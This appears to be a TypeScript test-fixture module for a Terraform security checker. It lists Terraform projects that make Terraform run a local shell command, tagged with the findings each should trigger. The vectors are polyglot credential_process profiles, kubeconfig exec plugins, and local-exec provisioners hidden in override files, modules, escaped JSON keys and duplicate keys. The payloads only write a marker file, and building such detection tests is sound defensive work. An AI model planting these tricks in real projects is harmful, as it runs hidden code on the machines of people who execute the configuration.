import type { Attack } from './attack.ts';

const credentialProcess = (mark: string) => `sh -c "echo ran > ${mark}; echo {}"`;
/** Terraform code and an INI file at once: Terraform's comment is a profile in INI. */
const polyglot = (block: string, mark: string) => `/*
[profile x]
credential_process = ${credentialProcess(mark)}
region = us-east-1
*/
${block}
`;
const kubeconfig = (mark: string) =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster: { server: 'https://127.0.0.1:9' } }],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
    'current-context': 'x',
    users: [
      {
        name: 'u',
        user: {
          exec: {
            apiVersion: 'client.authentication.k8s.io/v1beta1',
            command: 'sh',
            args: ['-c', `echo ran > ${mark}`],
            interactiveMode: 'Never',
          },
        },
      },
    ],
  });
const provisioner = (mark: string, when = '') =>
  `provisioner "local-exec" {\n${when}    command = "echo ran > ${mark}"\n  }`;

const evidence: Attack['evidence'] = ({ trap }) => trap.isMarked();

/** Code that starts a program, which writes a mark outside its project if the attack works. */
export const startingAttacks: Attack[] = [
  {
    row: 1,
    name: 'a provider reads its own main.tf as a profile with a credential_process',
    files: ({ mark }) => ({
      'main.tf': polyglot(
        'provider "aws" {\n  shared_config_files = ["./main.tf"]\n  profile = "x"\n}\ndata "aws_caller_identity" "me" {}\n',
        mark,
      ),
    }),
    evidence,
    findings: ['PRE-PROVIDER-ARGUMENT'],
  },
  {
    row: 1,
    name: 'the same with the arguments in a .tf.json file',
    files: ({ mark }) => ({
      'a.tf': polyglot('data "aws_caller_identity" "me" {}', mark),
      'p.tf.json': JSON.stringify({ provider: { aws: { shared_config_files: ['a.tf'], profile: 'x' } } }),
    }),
    evidence,
    findings: ['PRE-PROVIDER-ARGUMENT'],
  },
  {
    row: 2,
    name: 'the s3 remote state reads main.tf as a profile',
    files: ({ mark }) => ({
      'main.tf': polyglot(
        'data "terraform_remote_state" "s" {\n  backend = "s3"\n  config = { bucket = "b", key = "k", region = "us-east-1", shared_config_files = ["main.tf"], profile = "x", skip_requesting_account_id = true }\n}',
        mark,
      ),
    }),
    evidence,
    findings: ['PRE-DATA-SOURCE'],
  },
  {
    row: 2,
    name: 'the s3 backend reads main.tf as a profile',
    files: ({ mark }) => ({
      'main.tf': polyglot(
        'terraform {\n  backend "s3" {\n    bucket = "b"\n    key = "k"\n    region = "us-east-1"\n    shared_config_files = ["main.tf"]\n    profile = "x"\n  }\n}',
        mark,
      ),
    }),
    evidence,
    findings: ['PRE-BACKEND'],
    always: true,
  },
  {
    row: 3,
    name: 'the kubernetes backend starts the program of a kubeconfig',
    files: ({ mark }) => ({
      'kube.json': kubeconfig(mark),
      'main.tf':
        'terraform {\n  backend "kubernetes" {\n    secret_suffix = "s"\n    config_path = "kube.json"\n  }\n}',
    }),
    evidence,
    findings: ['PRE-BACKEND'],
    always: true,
  },
  {
    row: 3,
    name: 'the kubernetes remote state starts the program of a kubeconfig',
    files: ({ mark }) => ({
      'kube.json': kubeconfig(mark),
      'main.tf':
        'data "terraform_remote_state" "s" {\n  backend = "kubernetes"\n  config = { secret_suffix = "s", config_path = "kube.json" }\n}',
    }),
    evidence,
    findings: ['PRE-DATA-SOURCE'],
  },
  {
    row: 4,
    name: 'a provisioner',
    files: ({ mark }) => ({ 'main.tf': `resource "terraform_data" "a" {\n  ${provisioner(mark)}\n}` }),
    evidence,
    findings: ['PRE-PROVISIONER'],
  },
  {
    row: 4,
    name: 'a provisioner in an override file',
    files: ({ mark }) => ({
      'main.tf': 'resource "terraform_data" "a" {}',
      'x_override.tf.json': JSON.stringify({
        resource: {
          terraform_data: { a: { provisioner: { 'local-exec': { command: `echo ran > ${mark}` } } } },
        },
      }),
    }),
    evidence,
    findings: ['PRE-OVERRIDE'],
    always: true,
  },
  {
    row: 4,
    name: 'a provisioner in a module',
    files: ({ mark }) => ({
      'main.tf': 'module "m" {\n  source = "./m"\n}',
      'm/main.tf': `resource "terraform_data" "a" {\n  ${provisioner(mark)}\n}`,
    }),
    evidence,
    findings: ['PRE-PROVISIONER'],
  },
  {
    row: 4,
    name: 'a provisioner in JSON with escaped names',
    files: ({ mark }) => ({
      'main.tf.json': `{"resource":{"terraform_data":{"a":{"\\u0070rovisioner":[{"local\\u002dexec":{"command":"echo ran > ${mark}"}}]}}}}`,
    }),
    evidence,
    findings: ['PRE-PROVISIONER'],
  },
  {
    row: 19,
    name: 'a provisioner under the first of two equal keys, of which most parsers see the last',
    files: ({ mark }) => ({
      'main.tf.json': `{"resource":{"terraform_data":{"a":{"provisioner":{"local-exec":{"command":"echo ran > ${mark}"}}}}},"resource":{"terraform_data":{"b":{}}}}`,
    }),
    evidence,
    findings: ['PRE-DUPLICATE-KEY'],
    always: true,
  },
];
